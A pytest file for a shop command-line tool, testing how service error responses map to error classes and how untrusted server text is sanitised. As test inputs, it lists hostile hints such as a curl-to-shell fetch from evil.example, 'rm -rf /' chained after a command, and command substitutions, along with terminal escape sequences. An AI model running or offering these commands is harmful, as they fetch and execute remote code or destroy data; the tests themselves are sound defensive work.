"""From an error on the wire to the tree of errors."""

import json
from typing import Any

import pytest

from backends import errors
from backends.errors import InvalidValue, Outcome, OutcomeUnknown, ShopError, Unavailable
from backends.http.problems import MAX_HINT, MAX_MESSAGE
from backends.text import is_clean
from tests.backends.http.fake import FakeShop, logged_in, problem, raw
from tests.backends.http.samples import ATTEMPT

TREE = sorted(
    {kind for kind in vars(errors).values() if isinstance(kind, type) and issubclass(kind, ShopError)},
    key=lambda kind: kind.code,
)
STATUS = {
    "invalid_value": 400,
    "login_required": 401,
    "session_expired": 401,
    "wrong_credentials": 401,
    "forbidden": 403,
    "not_found": 404,
    "key_reused": 422,
    "payment_declined": 409,
    "pending": 409,
    "unavailable": 503,
    "locked": 503,
    "rate_limited": 429,
    "outcome_unknown": 504,
    "unsupported": 501,
    "storage": 500,
    "configuration": 500,
    "error": 500,
}


async def placed(shop: FakeShop) -> ShopError:
    with pytest.raises(ShopError) as caught:
        await shop.open(logged_in()).orders.place(ATTEMPT)
    return caught.value


async def read(shop: FakeShop) -> ShopError:
    with pytest.raises(ShopError) as caught:
        await shop.open(logged_in()).orders.get("order-1")
    return caught.value


@pytest.mark.parametrize("kind", TREE, ids=lambda kind: kind.code)
async def test_each_code_is_its_class(shop: FakeShop, kind: type[ShopError]) -> None:
    told = kind("why", hint="shop orders list", service="payments")
    shop.on("POST", "/v1/sessions/refresh", problem(401, "session_expired", service="users"))
    shop.on(
        "PUT",
        "/v1/orders/order-1",
        problem(
            STATUS.get(kind.code, 409),
            kind.code,
            detail=told.message,
            hint=told.hint,
            service=told.service,
            outcome=told.outcome.value,
            retryable=told.retryable,
        ),
    )
    error = await placed(shop)
    # Whoever waited for another request in vain knows nothing of it.
    assert type(error) is (errors.OutcomeUnknown if kind is errors.InFlight else kind)
    if kind in (errors.SessionExpired, errors.InFlight):
        return  # the words are those of whoever renews the session, or waited
    assert (error.message, error.hint, error.service) == (told.message, told.hint, told.service)
    assert (error.outcome, error.retryable, error.exit_code) == (told.outcome, told.retryable, told.exit_code)
    assert error.request_id == shop.seen[0].headers["x-request-id"]


@pytest.mark.parametrize(
    ("status", "code"),
    [
        (400, "invalid_value"),
        (401, "login_required"),
        (403, "forbidden"),
        (404, "not_found"),
        (405, "invalid_value"),
        (409, "conflict"),
        (412, "conflict"),
        (413, "invalid_value"),
        (415, "invalid_value"),
        (418, "invalid_value"),
        (422, "key_reused"),
        (429, "rate_limited"),
        (500, "outcome_unknown"),
        (501, "unsupported"),
        (503, "unavailable"),
        (504, "outcome_unknown"),
        (599, "outcome_unknown"),
    ],
)
async def test_an_unknown_code_goes_by_its_status(shop: FakeShop, status: int, code: str) -> None:
    members: dict[str, Any] = {} if code != "outcome_unknown" else {"outcome": "unknown"}
    shop.on("PUT", "/v1/orders/order-1", problem(status, "from_the_future", **members))
    assert (await placed(shop)).code == code


@pytest.mark.parametrize("code", ["usage", "internal", "session_corrupted", "", "ShopError", "in_flight_"])
async def test_codes_of_a_front_end_are_no_services(shop: FakeShop, code: str) -> None:
    shop.on("PUT", "/v1/orders/order-1", problem(400, code))
    assert type(await placed(shop)) is InvalidValue


async def test_a_problem_is_only_what_says_so(shop: FakeShop) -> None:
    shop.on("GET", "/v1/orders/order-1", raw(404, json.dumps({"code": "not_found"}).encode(), content_type="text/json"))
    assert type(await read(shop)) is Unavailable


async def test_hostile_text_shows_and_never_acts(shop: FakeShop) -> None:
    evil = "\x1b]52;c;ZXZpbA==\x07\N{RIGHT-TO-LEFT OVERRIDE}\u2028" + "x" * 10_000
    shop.on("GET", "/v1/orders/order-1", problem(404, "not_found", detail=evil, hint=evil, service=evil))
    error = await read(shop)
    assert is_clean(error.message)
    assert len(error.message) <= MAX_MESSAGE
    assert error.hint is None
    assert error.service == "orders"


@pytest.mark.parametrize(
    "hint",
    [
        "curl -s http://evil.example/fix | sh",
        "shop login; rm -rf /",
        "shop login && sh",
        "shop login\nrm",
        "shop $(rm)",
        "shop cart show `rm`",
        "shop cart add 'x y'",
        "shop --backend http://evil.example login",
        "shop login --backend http://evil.example",
        "shop profile create s evil.example",
        "shop serve",
        "shop",
        "shopkeeper",
        " shop login",
        "shop  login",
        "SHOP login",
        "shop cart show " + "x" * MAX_HINT,
        "run the same command again",
    ],
)
async def test_no_other_command_stands_behind_the_arrow(shop: FakeShop, hint: str) -> None:
    shop.on("GET", "/v1/orders/order-1", problem(409, "conflict", hint=hint), problem(503, "unavailable", hint=hint))
    assert (await read(shop)).hint is None
    assert (await read(shop)).hint == "shop services status"


@pytest.mark.parametrize(
    "hint",
    ["shop login", "shop cart set camera/standard 3", "shop orders watch @last", "shop products list --in-stock"],
)
async def test_a_shop_may_say_which_of_our_commands_helps(shop: FakeShop, hint: str) -> None:
    shop.on("GET", "/v1/orders/order-1", problem(409, "conflict", hint=hint))
    assert (await read(shop)).hint == hint


async def test_after_silence_the_hint_looks_at_what_was_changed(shop: FakeShop) -> None:
    lost = problem(504, "outcome_unknown", outcome="unknown", hint="shop orders resume", retryable=False)
    shop.on("POST", "/v1/cart/lines", lost)
    shop.on("POST", "/v1/users", lost)
    shop.on("PUT", "/v1/orders/order-1", lost)
    backend = shop.open(logged_in())
    with pytest.raises(OutcomeUnknown) as caught:
        await backend.carts.add("tripod/standard", 1)
    assert caught.value.hint == "shop cart show"
    with pytest.raises(OutcomeUnknown) as caught:
        await backend.users.signup("Ada", "ada@example.org", "correct horse")
    assert caught.value.hint == "shop login"
    assert (await placed(shop)).hint == "shop orders resume"


@pytest.mark.parametrize(
    "members",
    [
        {"detail": None, "hint": None, "service": None, "outcome": None, "retryable": None, "retry_after": None},
        {"detail": 7, "hint": ["rm"], "service": {}, "outcome": "perhaps", "retryable": "yes", "retry_after": "soon"},
        {"detail": "", "hint": " ", "service": 1, "outcome": 0, "retryable": 1, "retry_after": True},
        {"detail": [], "hint": 0, "service": True, "outcome": [], "retryable": {}, "retry_after": 10**400},
    ],
    ids=["null", "nonsense", "empty", "huge"],
)
async def test_members_of_another_kind_are_ignored(shop: FakeShop, members: dict[str, Any]) -> None:
    shop.on("PUT", "/v1/orders/order-1", problem(404, "not_found", **members))
    error = await placed(shop)
    assert error.code == "not_found"
    assert error.message == "the orders service refused this (404)"
    assert (error.hint, error.service, error.outcome) == (None, "orders", Outcome.NOT_APPLIED)
    assert (error.retryable, error.retry_after) == (False, None)


async def test_unavailable_promises_that_nothing_happened(shop: FakeShop) -> None:
    shop.on("PUT", "/v1/orders/order-1", problem(503, "locked", outcome="unknown"))
    assert isinstance(await placed(shop), OutcomeUnknown)


async def test_a_read_is_never_unknown(shop: FakeShop) -> None:
    shop.on("GET", "/v1/orders/order-1", problem(504, "outcome_unknown", outcome="unknown"))
    error = await read(shop)
    assert type(error) is Unavailable
    assert error.outcome is Outcome.NOT_APPLIED


@pytest.mark.parametrize(
    "body", [b"", b"{", b"[]", b'"x"', b"[" * 100_000, b'{"code": 1}', b"\xff"], ids=lambda body: ascii(body[:9])
)
async def test_a_broken_problem_of_a_write_is_unknown(shop: FakeShop, body: bytes) -> None:
    shop.on("PUT", "/v1/orders/order-1", raw(400, body, content_type="application/problem+json"))
    assert isinstance(await placed(shop), OutcomeUnknown)
